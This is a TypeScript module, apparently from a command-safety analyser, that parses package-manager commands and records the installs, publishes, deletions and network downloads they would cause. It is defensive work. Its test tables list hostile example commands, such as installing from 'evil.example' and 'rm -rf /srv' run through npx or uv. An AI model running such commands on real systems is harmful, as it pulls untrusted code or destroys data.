/** Package managers: what is installed from where, what is published, which scripts run. */

import { foldLookalikes, withoutInvisible } from '../lookalikes.ts';
import { lexical } from '../paths.ts';
import type { Call } from '../shell/call.ts';
import { Options } from '../shell/options.ts';
import { type Field, field, type Output } from '../shell/scope.ts';
import { runScript } from '../shell/script.ts';
import { asShown, hasUnknown } from '../text.ts';
import { effect, type Family } from './rule.ts';

/** How a manager's words are read. */
interface Manager {
  readonly names: string;
  /** Family of the registry. */
  readonly manager: string;
  /** Options that take a value. */
  readonly takes?: string;
  readonly install?: string;
  /** Subcommands after which a bare call installs what a manifest lists. */
  readonly manifest?: string;
  readonly remove?: string;
  readonly publish?: string;
  /** Subcommands that run a package or a script: `exec`, `dlx`. */
  readonly run?: string;
  /** Options that say: for the whole machine. */
  readonly global?: string;
  /** Installs for the whole machine always. */
  readonly isSystem?: true;
}

const MANAGERS: readonly Manager[] = [
  {
    names: 'npm cnpm',
    manager: 'npm',
    takes:
      '--prefix --registry --workspace -w -C --tag --userconfig --cache --loglevel --omit --include --script-shell --otp --access',
    install:
      'install i in ins inst insta instal isnt isnta isntal add ci clean-install install-test it update up upgrade udpate link ln',
    manifest: 'ci clean-install install i install-test it update up upgrade',
    publish: 'publish',
    global: '-g --global',
    remove: 'uninstall un remove rm r unlink prune dedupe',
  },
  {
    names: 'pnpm pnpx',
    manager: 'npm',
    takes: '-C --dir --filter -F --registry --store-dir --reporter --tag',
    install: 'install i add update up upgrade link import fetch',
    manifest: 'install i update up upgrade fetch import',
    publish: 'publish',
    global: '-g --global',
    remove: 'remove rm uninstall un prune',
  },
  {
    names: 'yarn yarnpkg',
    manager: 'npm',
    takes: '--cwd --registry --cache-folder --modules-folder',
    install: 'install add upgrade up',
    manifest: 'install upgrade up',
    publish: 'publish',
    remove: 'remove',
    global: '-g',
  },
  {
    names: 'bun',
    manager: 'npm',
    takes: '--cwd --registry --config -c',
    install: 'install i add update a',
    manifest: 'install i update',
    publish: 'publish',
    global: '-g --global',
    remove: 'remove rm',
  },
  {
    names: 'deno',
    manager: 'npm',
    install: 'install add',
    manifest: 'install',
    publish: 'publish',
    global: '-g --global',
    remove: 'uninstall remove',
  },
  {
    names: 'pip pip3 pipx',
    manager: 'pip',
    takes:
      '-r -c -e -i -f -t -d --requirement --constraint --editable --index-url --extra-index-url --find-links --target --prefix --root --python --platform --proxy --cache-dir --log --timeout --trusted-host --pip-args --spec --no-binary --only-binary',
    install: 'install download wheel inject upgrade',
    remove: 'uninstall',
  },
  {
    names: 'poetry pdm pipenv rye hatch',
    manager: 'pip',
    takes: '-G --group -E --extras --source --python -P --project -C --directory -D',
    install: 'add install update sync lock',
    manifest: 'install update sync lock',
    publish: 'publish',
    run: 'run',
    remove: 'remove uninstall',
  },
  {
    names: 'conda mamba micromamba',
    manager: 'conda',
    takes: '-n -p -c -f --name --prefix --channel --file',
    install: 'install create update env',
    manifest: 'update env',
    run: 'run',
    remove: 'remove uninstall',
  },
  {
    names: 'cargo',
    manager: 'cargo',
    takes:
      '-p --package --features --target --manifest-path --target-dir --bin --example --test --git --branch --tag --rev --path --registry --index --root --color -F -j --jobs --profile --version --vers -Z -C --config',
    install: 'install add update fetch binstall',
    manifest: 'update fetch',
    publish: 'publish yank owner',
    remove: 'uninstall remove',
  },
  {
    names: 'gem',
    manager: 'gem',
    takes: '-v -i -n -s -P --version --install-dir --bindir --source',
    install: 'install update i',
    manifest: 'update',
    publish: 'push yank owner',
    remove: 'uninstall',
    isSystem: true,
  },
  {
    names: 'bundle bundler',
    manager: 'gem',
    takes: '--path --gemfile -j --jobs --jobs',
    install: 'install update add',
    manifest: 'install update',
    run: 'exec',
    remove: 'remove',
  },
  {
    names: 'composer',
    manager: 'composer',
    takes: '-d --working-dir',
    install: 'install require update create-project',
    manifest: 'install update',
    run: 'exec',
    remove: 'remove',
  },
  {
    names: 'apt apt-get aptitude',
    manager: 'apt',
    takes: '-o -c -t -a --option --target-release',
    install: 'install upgrade full-upgrade dist-upgrade build-dep',
    manifest: 'upgrade full-upgrade dist-upgrade',
    remove: 'remove purge autoremove autopurge',
    isSystem: true,
  },
  {
    names: 'dnf yum microdnf tdnf zypper',
    manager: 'rpm',
    takes: '-c -x --enablerepo --disablerepo --repo -r',
    install: 'install in update upgrade up dup localinstall groupinstall reinstall',
    manifest: 'update upgrade up dup',
    remove: 'remove erase rm autoremove',
    isSystem: true,
  },
  {
    names: 'apk',
    manager: 'apk',
    takes: '-p -X -t --root --repository --virtual',
    install: 'add upgrade',
    manifest: 'upgrade',
    remove: 'del',
    isSystem: true,
  },
  {
    names: 'brew',
    manager: 'brew',
    takes: '',
    install: 'install reinstall upgrade tap bundle',
    manifest: 'upgrade bundle',
    remove: 'uninstall remove rm autoremove',
    isSystem: true,
  },
  {
    names: 'port',
    manager: 'macports',
    install: 'install upgrade',
    manifest: 'upgrade',
    remove: 'uninstall',
    isSystem: true,
  },
  {
    names: 'snap flatpak',
    manager: 'snap',
    install: 'install refresh update',
    manifest: 'refresh update',
    remove: 'remove uninstall',
    isSystem: true,
  },
  { names: 'nix-env', manager: 'nix', takes: '-f -iA -p', isSystem: true },
  {
    names: 'choco winget scoop',
    manager: 'windows',
    takes: '--id --source --version -e -v',
    install: 'install upgrade update add',
    manifest: 'update',
    remove: 'uninstall remove',
    isSystem: true,
  },
  {
    names: 'luarocks',
    manager: 'luarocks',
    takes: '--tree --server',
    install: 'install make',
    publish: 'upload',
    remove: 'remove',
  },
  {
    names: 'opam',
    manager: 'opam',
    install: 'install upgrade',
    manifest: 'upgrade',
    publish: 'publish',
    run: 'exec',
    remove: 'remove',
  },
  {
    names: 'stack cabal',
    manager: 'hackage',
    takes: '--resolver --stack-yaml',
    install: 'install',
    publish: 'upload',
    run: 'exec',
  },
  {
    names: 'mix rebar3',
    manager: 'hex',
    install: 'deps.get deps.update archive.install',
    manifest: 'deps.get deps.update',
    publish: 'hex.publish',
  },
  { names: 'dart flutter', manager: 'pub', takes: '', install: '', publish: '' },
  { names: 'helm', manager: 'helm' },
  {
    names: 'vsce ovsx',
    manager: 'vscode',
    takes: '-p --pat -t --target -o --out -i',
    publish: 'publish unpublish',
  },
  { names: 'ansible-galaxy', manager: 'ansible', install: 'install collection role' },
  {
    names: 'asdf mise rtx',
    manager: 'mise',
    install: 'install upgrade use',
    manifest: 'install upgrade',
    run: 'exec x',
    remove: 'uninstall',
  },
];

const wordsOf = (list: string | undefined): ReadonlySet<string> =>
  new Set((list ?? '').split(' ').filter(Boolean));

/** Subcommands under which some managers keep their verbs. */
const NESTED = /^(?:global|workspace|pip|tool|self|pub|python)$/;

function managed(call: Call, m: Manager): Output | undefined {
  const { rest } = call.options(m.takes, 'posix');
  let verb = call.words[rest]?.text;
  let words = call.words.slice(rest + 1);
  const globalVerb = verb === 'global';
  if (verb !== undefined && NESTED.test(verb)) {
    const inner = new Options(words, m.takes, 'posix');
    verb = words[inner.rest]?.text;
    words = words.slice(inner.rest + 1);
  }
  call.subcommand(verb);
  const options = new Options([...call.words.slice(0, rest), ...words], m.takes);
  if (
    options.has('--help', '--dry-run', '--version') &&
    !(m.manager === 'cargo' && options.value('--version')?.text)
  )
    return undefined;
  const isGlobal =
    m.isSystem ||
    globalVerb ||
    options.has(...wordsOf(m.global), '--user', '--system', '--break-system-packages') ||
    call.program === 'pipx';
  const note = (kind: 'package.install' | 'package.publish', name: string, version?: string): void =>
    call.add({
      kind,
      manager: m.manager,
      name,
      ...(version && { version }),
      ...(isGlobal && kind === 'package.install' && { global: true as const }),
    });
  const name = verb ?? (call.program === 'yarn' || call.program === 'yarnpkg' ? 'install' : '');
  if (wordsOf(m.publish).has(name)) {
    note(
      'package.publish',
      options.operands[0] && !/^\.|\/|\.(?:tgz|gem|vsix|rock|crate)$/.test(options.operands[0].text)
        ? options.operands[0].text
        : '*',
    );
    return undefined;
  }
  if (wordsOf(m.install).has(name)) {
    const names = options.operands.filter((word) => !isFolder(word));
    for (const word of names) {
      const { name: each, version } = packageName(word, m.manager);
      note('package.install', each, version);
      remoteSource(call, word);
    }
    if (names.length === 0) note('package.install', '*');
    for (const index of options.values(
      '--index-url',
      '--extra-index-url',
      '-i',
      '--registry',
      '--source',
      '--find-links',
      '-f',
      '--index',
    ))
      if (/^\w+:/.test(index.text)) call.connect(index, 'download');
    for (const file of options.values('-r', '--requirement')) call.reads(file);
    return undefined;
  }
  if (wordsOf(m.run).has(name)) return call.runWords(new Options(words, '-C --env -n -p', 'posix').operands);
  return special(call, m, name, words, options);
}

const isFolder = (word: Field): boolean =>
  /^(?:\.|\.\.?\/.*|\/.*|~.*|file:.*)$/.test(word.text) &&
  !/\.(?:deb|rpm|whl|tgz|tar\.gz|zip|pkg)$/.test(word.text);

/** `name@1.2`, `name==1.2`, `@scope/name`, with look-alikes folded. */
function packageName(word: Field, manager: string): { name: string; version?: string } {
  const text = asShown(withoutInvisible(word.text));
  const match =
    manager === 'pip'
      ? /^([\w.-]+)(?:\[.*\])?\s*(?:[=<>~!]=?=?\s*(\S+))?$/.exec(text)
      : /^(@?[^@=\s]+)(?:[@=](\S+))?$/.exec(text);
  const name = foldLookalikes(match?.[1] ?? text);
  return { name: hasUnknown(word.text) ? '*' : name, ...(match?.[2] && { version: match[2] }) };
}

/** Packages by URL or from a repository come from that host. */
function remoteSource(call: Call, word: Field): void {
  const url = /^(?:git\+)?((?:https?|ssh|git):\/\/.+)$/.exec(word.text)?.[1];
  if (url) call.connect(url, 'download');
  else if (/^(?:github:)?[\w-]+\/[\w.-]+(?:#.*)?$/.test(word.text) && !word.text.startsWith('@'))
    call.connect('github.com', 'download');
}

/** What only one manager has. */
function special(
  call: Call,
  m: Manager,
  name: string,
  words: readonly Field[],
  options: Options,
): Output | undefined {
  if (wordsOf(m.remove).has(name) && m.isSystem)
    for (const word of options.operands)
      call.touch('file.delete', `/usr/share/${m.manager}/${word.text}`, { recursive: true });
  if (m.manager === 'npm') return npmScript(call, name, words, options);
  if (m.manager === 'cargo' && (name === 'run' || name === 'r')) return undefined;
  if (call.program === 'pip' || call.program === 'pip3') {
    if (name === 'config' && options.operands[0]?.text === 'set')
      call.writes(`${call.trace.place.home}/.config/pip/pip.conf`);
  }
  if (m.manager === 'apt' && name.endsWith('.deb'))
    call.add({ kind: 'package.install', manager: 'apt', name, global: true });
  if (m.manager === 'windows' || m.manager === 'brew') {
    if (name === 'services' && /^(?:stop|restart|kill)$/.test(options.operands[0]?.text ?? ''))
      call.add({ kind: 'process.kill', target: options.operands[1]?.text ?? '*' });
  }
  return undefined;
}

/** Verbs of npm and its kin that are no script. */
const NPM_VERBS = new Set(
  'view info show ls list ll la outdated audit fund why explain explore doctor ping search pack config c get set init create version help docs bugs repo home prefix root bin cache login logout whoami token team owner access deprecate dist-tag unpublish star profile org hook adduser sbom query pkg shrinkwrap completion edit store patch env node setup licenses approve-builds import config import check build upgrade-interactive dedupe plugin info pm x cat-file server changelog types fmt lint check bench doc task repl eval compile bundle coverage'.split(
    ' ',
  ),
);

function npmScript(call: Call, name: string, words: readonly Field[], options: Options): Output | undefined {
  if (
    /^(?:run|run-script|rum|urn|test|t|tst|start|stop|restart)$/.test(name) ||
    (!NPM_VERBS.has(name) && name !== '' && call.program !== 'npm' && call.program !== 'deno')
  ) {
    const isRun = /^(?:run|run-script|rum|urn)$/.test(name);
    const script = isRun ? options.operands[0]?.text : name === 't' || name === 'tst' ? 'test' : name;
    if (script === undefined) return undefined;
    if (/^(?:bun|deno)$/.test(call.program) && /\.[cm]?[jt]sx?$/.test(script)) {
      return runScript(call, field(script), isRun ? options.operands.slice(1) : words, {
        language: 'javascript',
      });
    }
    const args = isRun ? options.operands.slice(1) : words.filter((word) => word.text !== '--');
    return packageScript(call, script, args, options.value('--prefix', '-C', '--dir', '--cwd'));
  }
  if (/^(?:exec|x|dlx|create|init)$/.test(name)) return execute(call, words, name);
  if (
    /^(?:unpublish|deprecate|dist-tag|owner|access|token|team|star|hook|org)$/.test(name) &&
    !/^(?:ls|list|get)$/.test(options.operands[0]?.text ?? '')
  ) {
    call.add({
      kind: 'package.publish',
      manager: 'npm',
      name: options.operands.find((word) => !/^(?:add|rm|set|create|revoke)$/.test(word.text))?.text ?? '*',
    });
  }
  if (name === 'config' || name === 'set') {
    if (name === 'set' || /^(?:set|delete|edit)$/.test(options.operands[0]?.text ?? ''))
      call.writes(options.has('-g', '--global') ? '/etc/npmrc' : `${call.trace.place.home}/.npmrc`);
  }
  if (name === 'eval' && call.program === 'deno')
    return call.runWords([field('node'), field('-e'), ...words]);
  return undefined;
}

/** Runs what package.json says a script is. */
function packageScript(
  call: Call,
  script: string,
  args: readonly Field[],
  prefix: Field | undefined,
): Output | undefined {
  const folder = prefix ? lexical(prefix.text, call.scope.cwd, call.trace.place) : call.scope.cwd;
  if (call.scope.elsewhere || hasUnknown(folder)) return undefined;
  const manifest = call.trace.facts.ask('text', `${folder}/package.json`);
  const scripts = typeof manifest === 'string' ? scriptsIn(manifest) : undefined;
  if (!scripts) return undefined;
  const scope = call.scope.fork();
  scope.cwd = folder;
  const key = `script ${script}`;
  if (scope.aliases.has(key)) return undefined;
  scope.aliases.set(key, '');
  for (const each of [`pre${script}`, script, `post${script}`]) {
    const code = scripts[each];
    if (typeof code !== 'string') continue;
    const tail =
      each === script ? args.map((word) => ` '${word.text.replaceAll("'", "'\\''")}'`).join('') : '';
    call.runText(code + tail, { via: `package.json script ${each}`, scope });
  }
  return undefined;
}

function scriptsIn(manifest: string): Readonly<Record<string, unknown>> | undefined {
  try {
    const parsed: unknown = JSON.parse(manifest);
    const scripts =
      typeof parsed === 'object' && parsed !== null && 'scripts' in parsed ? parsed.scripts : undefined;
    return typeof scripts === 'object' && scripts !== null ? (scripts as Record<string, unknown>) : undefined;
  } catch {
    return undefined;
  }
}

/** `npx tool`: a tool that the project has, or one that is fetched and run. */
function execute(call: Call, words: readonly Field[], verb: string): Output | undefined {
  const options = new Options(
    words,
    '-p --package -c --call --shell -w --workspace --from --with --python --spec --filter',
    'posix',
  );
  for (const word of options.values('-p', '--package', '--from', '--with', '--spec'))
    call.add({ kind: 'package.install', manager: managerOf(call.program), ...packageName(word, 'npm') });
  const code = options.value('-c', '--call');
  if (code) return call.runText(code.text);
  const [tool, ...args] = options.operands;
  if (!tool) return undefined;
  if (verb === 'create' || verb === 'init') {
    call.add({ kind: 'package.install', manager: 'npm', name: `create-${tool.text}` });
    return undefined;
  }
  const { name, version } = packageName(tool, 'npm');
  const fetched = verb === 'dlx' || version !== undefined || options.has('-y', '--yes', '--ignore-existing');
  if (fetched && !options.has('--no-install', '--no'))
    call.add({
      kind: 'package.install',
      manager: managerOf(call.program),
      name,
      ...(version && { version }),
    });
  return call.runWords([
    { ...tool, text: name.startsWith('@') ? (name.split('/')[1] ?? name) : name },
    ...args,
  ]);
}

const managerOf = (program: string): string => (/^(?:uvx|pipx|uv)$/.test(program) ? 'pip' : 'npm');

export const PACKAGES: Family = [
  {
    names: 'npm',
    does: (call) => run(call, 'npm'),
    harmful: {
      'npm publish': 'package.publish npm *',
      'npm i -g evil': 'package.install npm evil',
      'npm install https://evil.example/x.tgz': 'net.connect evil.example',
    },
    harmless: {
      'npm test': [],
      'npm run build': [],
      'npm ls': [],
      'npm ci': 'package.install npm *',
      'npm install lodash@4': 'package.install npm lodash@4',
    },
  },
  ...MANAGERS.filter((m) => m.names !== 'npm').map((m) => ({
    names: m.names
      .replace(/\bnpm\b ?/, '')
      .replace(/\bpnpx\b ?|\bhelm\b/g, '')
      .trim(),
    does: (call: Call) => managed(call, m),
  })),
  {
    names: 'npx pnpx bunx uvx pnpm-dlx',
    does: (call) => execute(call, call.words, call.program === 'uvx' ? 'dlx' : 'exec'),
    harmful: {
      'npx -y evil@1 --x': 'package.install npm evil@1',
      "npx -c 'rm -rf /srv'": 'file.delete /srv/**',
    },
    harmless: { 'npx vitest run': [], 'npx tsc --noEmit': [] },
  },
  {
    names: 'uv',
    does: uv,
    harmful: {
      'uv publish': 'package.publish pip *',
      'uv pip install evil': 'package.install pip evil',
      'uv run rm -rf /srv': 'file.delete /srv/**',
    },
    harmless: { 'uv run pytest': [], 'uv sync': 'package.install pip *' },
  },
  {
    names: 'twine flit',
    does: effect((call) => {
      call.subcommand(call.words[0]?.text);
      if (/^(?:upload|publish|register)$/.test(call.words[0]?.text ?? ''))
        call.add({ kind: 'package.publish', manager: 'pip', name: '*' });
    }),
    harmful: { 'twine upload dist/*': 'package.publish pip *' },
    harmless: { 'twine check dist/*': [] },
  },
  {
    names: 'go',
    does: go,
    harmful: {
      'go install evil.example/x@latest': 'package.install go evil.example/x@latest',
      'go generate ./...': [],
    },
    harmless: { 'go test ./...': [], 'go build': [], 'go run .': [] },
  },
  {
    names: 'mvn mvnw gradle gradlew sbt ant lein bazel bazelisk buck2 pants nx turbo lerna rush',
    does: effect((call) => {
      const goals = call.texts.filter((text) => !text.startsWith('-'));
      call.subcommand(goals[0]);
      const publishes = goals.some(
        (goal) =>
          /(?:^|:)(?:deploy|publish\w*|release:perform|uploadArchives|sonatype\w*)$/.test(goal) &&
          !/ToMavenLocal$/.test(goal),
      );
      if (publishes && !call.texts.includes('--dry-run'))
        call.add({
          kind: 'package.publish',
          manager: /mvn|gradle|sbt/.test(call.program) ? 'maven' : call.program,
          name: '*',
        });
    }),
    harmful: { 'mvn deploy': 'package.publish maven *' },
    harmless: { 'mvn test': [], './gradlew build': [] },
  },
  {
    names:
      'dpkg rpm pacman yay paru emerge xbps-install pkg installer msiexec dnf5 easy_install nix nix-shell',
    does: effect(lowLevel),
    harmful: {
      'dpkg -i evil.deb': 'package.install dpkg evil.deb',
      'pacman -S evil': 'package.install pacman evil',
    },
    harmless: { 'dpkg -l': [], 'rpm -qa': [] },
  },
];

function run(call: Call, name: string): Output | undefined {
  const m = MANAGERS.find((each) => each.names.split(' ').includes(name));
  return m ? managed(call, m) : undefined;
}

function uv(call: Call): Output | undefined {
  const takes =
    '--project --directory --python -p --index-url --extra-index-url --with --group --extra --env-file -r --requirements --cache-dir --index --default-index --script';
  const { rest } = call.options(takes, 'posix');
  const verb = call.words[rest]?.text ?? '';
  const words = call.words.slice(rest + 1);
  call.subcommand(verb);
  const options = new Options(words, takes);
  const install = (names: readonly Field[]): void => {
    for (const word of names) {
      call.add({ kind: 'package.install', manager: 'pip', ...packageName(word, 'pip') });
      remoteSource(call, word);
    }
    if (names.length === 0) call.add({ kind: 'package.install', manager: 'pip', name: '*' });
  };
  if (verb === 'publish') call.add({ kind: 'package.publish', manager: 'pip', name: '*' });
  else if (verb === 'add') install(options.operands);
  else if (verb === 'sync' || verb === 'lock') install([]);
  else if (verb === 'pip') {
    if (options.operands[0]?.text === 'install') install(options.operands.slice(1));
    if (options.operands[0]?.text === 'sync') install([]);
  } else if (verb === 'tool') {
    const [inner, ...others] = options.operands;
    if (inner?.text === 'install') install(others);
    if (inner?.text === 'run') return execute(call, words.slice(1), 'dlx');
  } else if (verb === 'run') {
    const inner = new Options(words, takes, 'posix');
    for (const word of inner.values('--with')) install([word]);
    const [program, ...args] = inner.operands;
    if (!program) return undefined;
    if (inner.has('-m', '--module')) return call.runWords([field('python3'), field('-m'), program, ...args]);
    return /\.py$/.test(program.text) || program.text === '-'
      ? call.runWords([field('python3'), program, ...args])
      : call.runWords(inner.operands);
  }
  return undefined;
}

function go(call: Call): Output | undefined {
  const verb = call.words[0]?.text ?? '';
  call.subcommand(verb);
  const options = call.options(
    '-o -C -modfile -mod -tags -ldflags -gcflags -run -count -timeout -exec -toolexec -p -coverprofile -bench -vettool',
    'dash',
    call.words.slice(1),
  );
  for (const code of options.values('-exec', '-toolexec', '-vettool')) call.runText(code.text);
  for (const file of options.values('-o', '-coverprofile')) call.writes(file, { replaces: true });
  if (verb === 'install' || verb === 'get') {
    for (const { text } of options.operands) {
      if (/^\.|^cmd\//.test(text)) continue;
      const [name = text, version] = text.split('@');
      call.add({
        kind: 'package.install',
        manager: 'go',
        name: foldLookalikes(name),
        ...(version && { version }),
        ...(verb === 'install' && { global: true as const }),
      });
    }
  }
  if (verb === 'run') {
    const [target] = options.operands;
    if (target?.text.includes('@'))
      call.add({
        kind: 'package.install',
        manager: 'go',
        name: target.text.split('@')[0] ?? target.text,
        version: target.text.split('@')[1] ?? 'latest',
      });
  }
  if (verb === 'env' && options.has('-w')) call.writes(`${call.trace.place.home}/.config/go/env`);
  return undefined;
}

function lowLevel(call: Call): void {
  const options = call.options('-R -D --root --dbpath -b -r --config --arch -p -A');
  const { program } = call;
  const installs =
    program === 'rpm'
      ? options.has('-i', '-U', '-F', '--install', '--upgrade')
      : /^(?:pacman|yay|paru)$/.test(program)
        ? options.has('-S', '-U', '--sync') && !options.has('-s', '--search')
        : program === 'dpkg'
          ? options.has('-i', '--install')
          : program === 'emerge' ||
              program === 'xbps-install' ||
              program === 'easy_install' ||
              program === 'msiexec' ||
              program === 'installer'
            ? true
            : program === 'nix-env'
              ? options.has('-i', '--install', '-iA', '-A')
              : /^(?:nix|pkg|dnf5)$/.test(program) &&
                /^(?:install|add|profile)$/.test(call.words[0]?.text ?? '');
  const removes =
    program === 'rpm' ? options.has('-e', '--erase') : options.has('-R', '-r', '-P', '--remove', '--purge');
  call.subcommand(call.words[0]?.text);
  const names = options.operands.filter((word) => !/^(?:install|add|profile)$/.test(word.text));
  if (installs)
    for (const word of names)
      call.add({ kind: 'package.install', manager: program, name: asShown(word.text), global: true });
  if (removes && !installs)
    for (const word of names)
      call.touch('file.delete', `/usr/share/${program}/${word.text}`, { recursive: true });
}
